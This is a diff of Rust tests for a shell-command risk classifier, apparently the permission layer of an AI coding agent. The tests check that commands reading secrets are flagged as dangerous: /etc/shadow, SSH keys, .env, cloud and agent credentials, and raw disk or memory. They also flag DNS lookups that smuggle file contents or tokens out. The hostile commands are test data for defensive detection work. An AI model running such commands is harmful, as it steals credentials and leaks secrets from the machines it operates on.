@@ -386,3 +386,103 @@ fn an_empty_command_is_unknown() {
         assert_eq!(bash(text).risk, Risk::Unknown);
     }
 }
+
+#[test]
+fn a_secret_is_seen_wherever_a_command_names_it() {
+    for command in [
+        "grep -vf/root/.ssh/id_rsa /dev/null",
+        "grep --file=/root/.ssh/id_rsa x",
+        "grep -f .env x",
+        "diff --from-file=/etc/shadow x",
+        "wc --files0-from=/etc/shadow",
+        "xargs -a /etc/shadow echo",
+        "file -f /etc/shadow",
+        "git config -f ~/.netrc -l",
+        "git cat-file blob HEAD:.env",
+        "sed -n '$r /etc/shadow' x",
+        "sed '1R/root/.aws/credentials' x",
+        "awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}{print}'",
+        "jq -n 'import \"/root/.codex/auth\" as $a; $a'",
+        "duckdb -c \"select * from '/root/.codex/auth.json'\"",
+        "psql -c 'select * from pg_shadow'",
+        "mysql -e 'select authentication_string from mysql.user'",
+        "ps auxe",
+        "ps e -p 1",
+        "pulumi stack output --show-secrets",
+        "cat /dev/sda",
+        "strings /dev/nvme0n1p1",
+        "xxd < /dev/mem",
+        "grep -a key /proc/kcore",
+        "mc alias list",
+    ] {
+        let reading = bash(command);
+        let shown = reading.effects.iter().any(|effect| effect.kind == Kind::Credential);
+        assert!(shown && reading.risk == Risk::Dangerous, "{command}: {}", reading.reason);
+    }
+    for command in [
+        "grep -f words.txt x",
+        "grep /dev/sda /proc/mounts",
+        "grep --exclude=.env -r x .",
+        "df -h | grep /dev/sd",
+        "ps aux",
+        "ps -ef",
+        "ps -u pete",
+        "ps axo pid,user",
+        "mysql -e 'select user, host from mysql.user'",
+        "file -s /dev/sda1",
+        "sed 'r header.txt' x",
+        "awk '{print \"/etc/hosts\"}' x",
+        "lsblk /dev/sda",
+    ] {
+        assert_eq!(bash(command).risk, Risk::ReadOnly, "{command}: {}", bash(command).reason);
+    }
+}
+
+#[test]
+fn a_name_that_is_looked_up_leaves_the_machine() {
+    for command in [
+        "getent hosts $(cat f).example.com",
+        "getent ahosts \"$TOKEN.example.com\"",
+        "redis-cli -h example.com ping \"$(cat f)\"",
+    ] {
+        assert!(bash(command).risk >= Risk::Unknown, "{command}: {}", bash(command).reason);
+    }
+    assert_eq!(bash("getent hosts example.com").risk, Risk::ReadOnly);
+    assert_eq!(bash("getent passwd root").risk, Risk::ReadOnly);
+}
+
+#[test]
+fn help_that_loads_the_project_is_not_only_help() {
+    for command in ["pytest --help", "pytest -h", "rails --version", "tox --help", "mix --help"] {
+        assert!(bash(command).risk > Risk::ReadOnly, "{command}");
+    }
+    assert_eq!(bash("pytest --version").risk, Risk::ReadOnly);
+}
+
+#[test]
+fn a_wrapper_is_what_it_runs() {
+    for command in [
+        "script -q /dev/null ls -l",
+        "rtk git log --oneline",
+        "rtk proxy ls",
+        "env -S 'A=b ls -l'",
+        "auth0 universal-login prompts show login",
+        "gcloud app services describe default",
+    ] {
+        assert_eq!(bash(command).risk, Risk::ReadOnly, "{command}: {}", bash(command).reason);
+    }
+    for command in [
+        "script -q /dev/null",
+        "script -q log ls",
+        "script -qc 'rm x' /dev/null",
+        "script -q /dev/null rm x",
+        "rtk rm x",
+        "rtk test ls",
+        "rtk init",
+        "rtk git push",
+        "env -S 'touch x'",
+        "env -S 'ls ${X}'",
+    ] {
+        assert!(bash(command).risk > Risk::ReadOnly, "{command}: {}", bash(command).reason);
+    }
+}
